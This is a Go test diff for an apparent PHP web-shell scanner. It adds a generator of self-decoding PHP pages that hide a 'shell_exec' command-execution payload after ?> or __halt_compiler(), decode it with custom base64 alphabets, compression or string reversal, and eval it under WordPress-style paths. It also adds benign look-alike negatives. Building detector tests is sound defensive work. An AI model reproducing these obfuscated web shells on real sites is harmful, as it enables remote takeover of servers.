@@ -169,6 +169,96 @@ func splicePages(r *rand.Rand) []techVariant {
 	return out
 }
 
+// selfDecodingPages: the payload sits after the page's code as bytes PHP never runs (after
+// ?> or __halt_compiler()), and the code reads the page's own file, decodes the stretch and
+// evaluates it; the loader itself is sometimes packed again in a literal.
+func selfDecodingPages(r *rand.Rand) []techVariant {
+	const std = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
+	var out []techVariant
+	for n := 0; n < 30; n++ {
+		payload := fmt.Sprintf("if(isset($_POST['%s'])){echo shell_exec($_POST['%s']);}", word(r), word(r))
+		perm := []byte(std)
+		r.Shuffle(len(perm), func(i, j int) { perm[i], perm[j] = perm[j], perm[i] })
+		blob := b64(payload)
+		dec := ""
+		switch n % 4 {
+		case 0: // a private base64 alphabet
+			tr := make([]byte, len(blob))
+			for i := range blob {
+				if k := strings.IndexByte(std, blob[i]); k >= 0 {
+					tr[i] = perm[k]
+				} else {
+					tr[i] = blob[i]
+				}
+			}
+			blob = string(tr)
+			dec = "base64_decode(strtr(%s, '" + string(perm) + "', '" + std + "'))"
+		case 1:
+			blob = b64(string(deflate(payload)))
+			dec = "gzinflate(base64_decode(%s))"
+		case 2:
+			blob = reverse(blob)
+			dec = "base64_decode(strrev(%s))"
+		case 3:
+			dec = "base64_decode(%s)"
+		}
+		self, pre := "__FILE__", ""
+		switch r.Intn(3) {
+		case 1:
+			v := "$" + word(r)
+			self, pre = v, v+" = __FILE__;\n"
+		case 2:
+			self = "$_SERVER['SCRIPT_FILENAME']"
+		}
+		h, d, c := "$"+word(r), "$"+word(r), "$"+word(r)
+		var read string
+		marker := "__halt_compiler();"
+		switch r.Intn(4) {
+		case 0: // open, skip the code lines, read the blob's length
+			read = h + " = fopen(" + self + ", 'rb');\nfgets(" + h + ", 4096);\nfgets(" + h + ", 4096);\n" + d + " = fread(" + h + ", " + fmt.Sprint(len(blob)) + ");\nfclose(" + h + ");\n"
+			marker = "?>"
+		case 1: // the whole file, cut after the marker
+			read = h + " = file_get_contents(" + self + ");\n" + d + " = substr(" + h + ", strpos(" + h + ", '__halt_' . 'compiler();') + 18);\n"
+		case 2: // its lines, the last one
+			read = h + " = file(" + self + ");\n" + d + " = trim(end(" + h + "));\n"
+			marker = "?>"
+		case 3: // a stream read at the data offset
+			read = h + " = @fopen(" + self + ", 'r');\nfseek(" + h + ", __COMPILER_HALT_OFFSET__);\n" + d + " = stream_get_contents(" + h + ");\n"
+		}
+		run := c + " = " + fmt.Sprintf(dec, d) + ";\neval(" + c + ");\n"
+		switch r.Intn(3) {
+		case 1:
+			run = "eval(" + fmt.Sprintf(dec, d) + ");\n"
+		case 2:
+			run = c + " = " + fmt.Sprintf(dec, d) + ";\n$" + "f = create_function('', " + c + ");\n$" + "f();\n"
+		}
+		loader := read + run
+		if r.Intn(3) == 0 {
+			loader = "eval(base64_decode('" + b64(loader) + "'));\n"
+		}
+		var page string
+		if marker == "?>" {
+			// the code on its first two lines, the blob after the closing tag
+			page = "<?php " + strings.ReplaceAll(pre+loader, "\n", " ") + "\n" + "return; ?>\n" + blob
+			if strings.Contains(read, "fgets") {
+				page = "<?php // packed\n" + strings.ReplaceAll(pre+loader, "\n", " ") + " return; ?>\n" + blob
+			}
+		} else {
+			page = "<?php\n" + pre + loader + "__halt_compiler();" + blob
+		}
+		out = append(out, techVariant{"self-decoding", "/var/www/html/wp-includes/" + word(r) + ".php", page})
+	}
+	return out
+}
+
+func reverse(s string) string {
+	b := []byte(s)
+	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
+		b[i], b[j] = b[j], b[i]
+	}
+	return string(b)
+}
+
 // word is a random PHP identifier.
 func word(r *rand.Rand) string {
 	const first = "abcdefghijklmnopqrstuvwxyz_"
@@ -185,6 +275,7 @@ func TestHarnessTechniques2(t *testing.T) {
 	var vs []techVariant
 	vs = append(vs, classPages(r)...)
 	vs = append(vs, splicePages(r)...)
+	vs = append(vs, selfDecodingPages(r)...)
 	a := New()
 	type tally struct{ found, total int }
 	by := map[string]*tally{}
@@ -219,6 +310,8 @@ func TestTechnique2Negatives(t *testing.T) {
 		"/var/www/html/search.php": "<?php\nclass Search {\n  public $q;\n  function __construct() { $this->q = $_REQUEST['q'] ?? ''; }\n}\n$s = new Search();\n$q = base64_decode($s->q);\necho htmlspecialchars($q);\n$st = $pdo->prepare('SELECT * FROM t WHERE n = ?');\n$st->execute([$s->q]);\n",
 		"/var/www/html/hooks.php":  "<?php\n$sep = '-';\n$name = str_replace($sep, '_', 'render-title');\n$fn = 'hook_' . $name;\nfunction hook_render_title($t) { return '<h1>' . htmlspecialchars($t) . '</h1>'; }\necho $fn('Welcome');\n$msg = strtr('Hello {who}', array('{who}' => 'world'));\n$out = 'strtoupper';\necho $out($msg);\n",
 		"/var/www/html/slug.php":   "<?php\n$junk = array('#', '%');\n$clean = str_replace($junk, '', 'my#page%title');\n$f = 'ucwords';\n$t = $f(str_replace('_', ' ', $clean));\n$cb = function ($s) { return trim($s); };\necho $cb($t);\n",
+		"/var/www/html/source.php": "<?php\nif (isset($_GET['source'])) { highlight_file(__FILE__); exit; }\n$sum = md5(file_get_contents(__FILE__));\n$cfg = base64_decode(substr(file_get_contents(__FILE__), __COMPILER_HALT_OFFSET__));\necho htmlspecialchars($cfg), $sum;\n__halt_compiler();eyJhIjoxfQ==",
+		"/var/www/html/stub.php":   "<?php\nPhar::mapPhar('app.phar');\n$h = fopen(__FILE__, 'rb');\nfseek($h, __COMPILER_HALT_OFFSET__);\n$meta = json_decode(base64_decode(stream_get_contents($h)), true);\nrequire 'phar://app.phar/index.php';\n__halt_compiler();e30=",
 		"/var/www/html/view.php":   "<?php\nclass Req { public $page; function __construct() { $this->page = $_GET['page'] ?? 'home'; } }\nclass Tpl { public $code = 'return 1;'; }\n$r = new Req();\n$t = new Tpl();\n$x = eval($t->code);\necho htmlspecialchars($r->page);\n",
 	}
 	for p, page := range pages {
